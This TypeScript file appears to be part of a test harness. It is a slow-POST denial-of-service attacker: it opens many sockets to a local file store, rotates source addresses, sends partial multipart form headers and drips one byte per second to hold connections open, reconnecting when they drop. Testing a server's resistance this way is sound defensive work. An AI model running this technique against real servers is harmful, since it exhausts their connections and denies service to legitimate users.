/** Attacks the file store as described by the options that it receives in a message; prints a line when it has connected. */
import { connect } from 'node:net';
import type { AttackerOptions } from './attack.ts';

const BYTE_INTERVAL_MS = 1_000;
const RECONNECT_MS = 1_000;
const FORM_BYTES = 100_000;

/** The start of a form. The fields are sent at once, because the store waits only briefly for them. */
function formStart(target: string): string {
  const [, key] = /^\/[^/]+\/([^?]+)/.exec(target)!;
  const field = (name: string, value: string) =>
    `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  return [
    `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: ${FORM_BYTES}\r\n\r\n`,
    field('key', key!),
    field('Content-Type', 'video/mp4'),
    '--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n',
  ].join('');
}

process.once('message', ({ port, kind, count, addresses, paths }: AttackerOptions) => {
  let connected = 0;
  const open = (index: number, wasConnected: boolean) => {
    const socket = connect({
      port,
      host: '127.0.0.1',
      localAddress: addresses[index % addresses.length]!,
    });
    let isConnected = wasConnected;
    let timer: NodeJS.Timeout | undefined;
    socket.on('error', () => {});
    socket.once('connect', () => {
      if (kind === 'slow-form') {
        socket.write(formStart(paths[index % paths.length]!));
        timer = setInterval(() => socket.write('x'), BYTE_INTERVAL_MS);
      }
      if (!isConnected && ++connected === count) console.log('connected');
      isConnected = true;
    });
    socket.resume().once('close', () => {
      clearInterval(timer);
      setTimeout(open, RECONNECT_MS, index, isConnected);
    });
  };
  for (let index = 0; index < count; index++) open(index, false);
});
